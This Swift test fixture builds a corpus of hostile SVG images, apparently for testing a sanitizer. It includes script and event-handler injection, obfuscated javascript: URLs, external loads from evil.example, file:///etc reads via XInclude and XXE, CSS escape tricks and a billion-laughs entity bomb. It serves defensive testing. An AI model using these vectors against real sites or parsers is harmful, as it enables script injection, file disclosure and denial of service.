import Foundation
import Testing

/// Hostile SVG images, as an API (or whoever answers for it) could send them. Each carries its own marker,
/// `HOSTILE<n>X`, only in its active part: a script, an event handler, a javascript: URL, an external reference,
/// a processing instruction, CSS that loads or escapes, an animation that rewrites a link, … The picture itself
/// is a teal square, so a rasterized payload shows teal in its middle.
struct HostileSVG: Sendable, CustomTestStringConvertible {
    var name: String
    var marker: String
    var svg: Data

    var testDescription: String { name }

    static let teal = (red: UInt8(0x11), green: UInt8(0x88), blue: UInt8(0x99))

    /// A teal 100 × 100 document with `body` after the square; `root` goes into the `<svg>` tag, `prologue` before it.
    static func document(_ body: String, root: String = "", prologue: String = "") -> String {
        prologue + #"<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="100" height="100" viewBox="0 0 100 100"\#(root)>"#
            + ##"<rect width="100" height="100" fill="#118899"/>"## + body + "</svg>\n"
    }

    /// The corpus: each payload names its marker `M`, replaced by `HOSTILE<n>X`.
    static let corpus: [HostileSVG] = {
        let payloads: [(String, (String) -> String)] = [
            ("script element", { document("<script>alert('\($0)')</script>") }),
            ("script in CDATA", { document("<script type=\"application/ecmascript\"><![CDATA[fetch('/\($0)')]]></script>") }),
            ("external script", { document("<script xlink:href=\"https://evil.example/\($0).js\"/>") }),
            ("prefixed script", { document("<svg:script xmlns:svg=\"http://www.w3.org/2000/svg\">\($0)()</svg:script>") }),
            ("XHTML script", { document("<h:script xmlns:h=\"http://www.w3.org/1999/xhtml\">\($0)()</h:script>") }),
            ("onload on the root", { document("", root: " onload=\"\($0)()\"") }),
            ("onclick", { document("<rect width=\"5\" height=\"5\" onclick=\"\($0)()\"/>") }),
            ("ONMOUSEOVER in capitals", { document("<rect width=\"5\" height=\"5\" ONMOUSEOVER=\"\($0)()\"/>") }),
            ("onbegin on an animation", { document("<rect width=\"5\" height=\"5\"><animate attributeName=\"x\" to=\"1\" dur=\"1s\" onbegin=\"\($0)()\"/></rect>") }),
            ("onend on animateTransform", { document("<rect width=\"5\" height=\"5\"><animateTransform attributeName=\"transform\" type=\"scale\" to=\"1\" dur=\"1s\" onend=\"\($0)()\"/></rect>") }),
            ("javascript: link", { document("<a xlink:href=\"javascript:\($0)()\"><rect width=\"5\" height=\"5\"/></a>") }),
            ("javascript: with a tab entity", { document("<a href=\"java&#9;script:\($0)()\"><rect width=\"5\" height=\"5\"/></a>") }),
            ("javascript: in character references", { document("<a href=\"&#106;&#x61;vascript:\($0)()\"><rect width=\"5\" height=\"5\"/></a>") }),
            ("JaVaScRiPt: mixed case", { document("<a href=\" JaVaScRiPt:\($0)()\"><rect width=\"5\" height=\"5\"/></a>") }),
            ("vbscript: link", { document("<a href=\"vbscript:\($0)\"><rect width=\"5\" height=\"5\"/></a>") }),
            ("data:text/html link", { document("<a href=\"data:text/html,&lt;script&gt;\($0)()&lt;/script&gt;\"><rect width=\"5\" height=\"5\"/></a>") }),
            ("SMIL set to javascript:", { document("<a href=\"#\"><set attributeName=\"href\" to=\"java&#9;script:\($0)()\"/><rect width=\"5\" height=\"5\"/></a>") }),
            ("SMIL animate values javascript:", { document("<a href=\"#\"><animate attributeName=\"href\" values=\"javascript:\($0)()\" dur=\"1s\"/><rect width=\"5\" height=\"5\"/></a>") }),
            ("SMIL set of an event handler", { document("<rect width=\"5\" height=\"5\"><set attributeName=\"onmouseover\" to=\"\($0)()\"/></rect>") }),
            ("SMIL animate xlink:href to http", { document("<a xlink:href=\"#\"><animate attributeName=\"xlink:href\" from=\"#\" to=\"https://evil.example/\($0)\" dur=\"1s\"/><rect width=\"5\" height=\"5\"/></a>") }),
            ("foreignObject with HTML", { document("<foreignObject width=\"5\" height=\"5\"><body xmlns=\"http://www.w3.org/1999/xhtml\"><img src=\"x\" onerror=\"\($0)()\"/></body></foreignObject>") }),
            ("foreignObject with an iframe", { document("<foreignObject width=\"5\" height=\"5\"><iframe xmlns=\"http://www.w3.org/1999/xhtml\" src=\"https://evil.example/\($0)\"/></foreignObject>") }),
            ("iframe", { document("<iframe xmlns=\"http://www.w3.org/1999/xhtml\" src=\"https://evil.example/\($0)\"/>") }),
            ("embed", { document("<embed xmlns=\"http://www.w3.org/1999/xhtml\" src=\"https://evil.example/\($0).swf\"/>") }),
            ("object", { document("<object xmlns=\"http://www.w3.org/1999/xhtml\" data=\"https://evil.example/\($0)\"/>") }),
            ("meta refresh", { document("<meta xmlns=\"http://www.w3.org/1999/xhtml\" http-equiv=\"refresh\" content=\"0;url=https://evil.example/\($0)\"/>") }),
            ("XHTML link stylesheet", { document("<link xmlns=\"http://www.w3.org/1999/xhtml\" rel=\"stylesheet\" href=\"https://evil.example/\($0).css\"/>") }),
            ("xml-stylesheet CSS", { document("", prologue: "<?xml-stylesheet type=\"text/css\" href=\"https://evil.example/\($0).css\"?>") }),
            ("xml-stylesheet XSLT", { document("", prologue: "<?xml-stylesheet type=\"text/xsl\" href=\"data:text/xml,\($0)\"?>") }),
            ("XML events handler", { document("<handler xmlns=\"http://www.w3.org/2000/svg\" xmlns:ev=\"http://www.w3.org/2001/xml-events\" ev:event=\"load\">\($0)()</handler>") }),
            ("XML events listener", { document("<listener xmlns=\"http://www.w3.org/2001/xml-events\" event=\"click\" handler=\"#\($0)\"/>") }),
            ("external image", { document("<image xlink:href=\"https://evil.example/\($0).png\" width=\"5\" height=\"5\"/>") }),
            ("protocol-relative image", { document("<image href=\"//evil.example/\($0).png\" width=\"5\" height=\"5\"/>") }),
            ("file image", { document("<image href=\"file:///etc/\($0)\" width=\"5\" height=\"5\"/>") }),
            ("external use", { document("<use href=\"https://evil.example/\($0).svg#x\"/>") }),
            ("external feImage", { document("<filter id=\"f\"><feImage href=\"https://evil.example/\($0)\"/></filter><rect width=\"5\" height=\"5\" filter=\"url(#f)\"/>") }),
            ("external pattern", { document("<pattern id=\"p\" xlink:href=\"https://evil.example/\($0)#p\"/>") }),
            ("external textPath", { document("<text><textPath href=\"https://evil.example/\($0)#p\">x</textPath></text>") }),
            ("external mpath", { document("<rect width=\"5\" height=\"5\"><animateMotion dur=\"1s\"><mpath xlink:href=\"https://evil.example/\($0)#p\"/></animateMotion></rect>") }),
            ("XInclude of a file", { document("<text x=\"1\" y=\"5\"><xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/\($0)\" parse=\"text\"/></text>") }),
            ("external entity", { document("<text x=\"1\" y=\"5\">&ext;</text>", prologue: "<!DOCTYPE svg [<!ENTITY ext SYSTEM \"file:///etc/\($0)\">]>") }),
            ("data: SVG image with onload", { document("<image href=\"data:image/svg+xml,%3Csvg%20xmlns%3D%27http%3A%2F%2Fwww.w3.org%2F2000%2Fsvg%27%20onload%3D%27\($0)()%27%2F%3E\" width=\"5\" height=\"5\"/>") }),
            ("CSS url() fill", { document("<rect width=\"5\" height=\"5\" style=\"fill: url(https://evil.example/\($0)#g) #000\"/>") }),
            ("url() in a fill attribute", { document("<rect width=\"5\" height=\"5\" fill=\"url('https://evil.example/\($0)#g') #000\"/>") }),
            ("CSS @import", { document("<style>@import \"https://evil.example/\($0).css\";</style>") }),
            ("CSS @import in CDATA", { document("<style><![CDATA[@import 'https://evil.example/\($0).css';]]></style>") }),
            ("CSS escaped @import", { document("<style>@\\69mport url(https://evil.example/\($0).css);</style>") }),
            ("CSS escaped url()", { document("<style>rect { fill: u\\72l(https://evil.example/\($0)) }</style>") }),
            ("CSS escape with a space", { document("<style>rect { fill: \\75 rl(https://evil.example/\($0)) }</style>") }),
            ("CSS image-set", { document("<style>rect { background: image-set(\"https://evil.example/\($0).png\" 1x) }</style>") }),
            ("CSS -webkit-image-set", { document("<style>rect { background: -webkit-image-set(url(https://evil.example/\($0).png) 1x) }</style>") }),
            ("CSS @font-face", { document("<style>@font-face { font-family: x; src: url(https://evil.example/\($0).woff) }</style>") }),
            ("CSS cursor", { document("<style>rect { cursor: url(https://evil.example/\($0).cur), auto }</style>") }),
            ("CSS behavior", { document("<style>rect { behavior: url(https://evil.example/\($0).htc) }</style>") }),
            ("desc inside style resets a filter", { document("<style>rect { fill: #118899 }<desc/>@import url(https://evil.example/\($0).css);</style>") }),
            ("custom property holding a url()", { document("<style>:root { --x: url(https://evil.example/\($0)) } rect { background: var(--x) }</style>") }),
            ("link with a target", { document("<a href=\"https://evil.example/\($0)\" target=\"_top\"><rect width=\"5\" height=\"5\"/></a>") }),
            ("xml:base of javascript:", { document("<a xml:base=\"javascript:\($0)()//\" href=\"x\"><rect width=\"5\" height=\"5\"/></a>") }),
            ("onload on an image", { document("<image width=\"5\" height=\"5\" href=\"data:,\" onload=\"\($0)()\"/>") }),
            ("billion laughs", { document("<text x=\"1\" y=\"5\">&l3;</text>", prologue: "<!DOCTYPE svg [<!ENTITY l0 \"\($0)\"><!ENTITY l1 \"&l0;&l0;&l0;&l0;&l0;&l0;&l0;&l0;&l0;&l0;\"><!ENTITY l2 \"&l1;&l1;&l1;&l1;&l1;&l1;&l1;&l1;&l1;&l1;\"><!ENTITY l3 \"&l2;&l2;&l2;&l2;&l2;&l2;&l2;&l2;&l2;&l2;\">]>") }),
        ]
        return payloads.enumerated().map { index, payload in
            let marker = "HOSTILE\(index + 1)X"
            return HostileSVG(name: payload.0, marker: marker, svg: Data(payload.1(marker).utf8))
        }
    }()
}
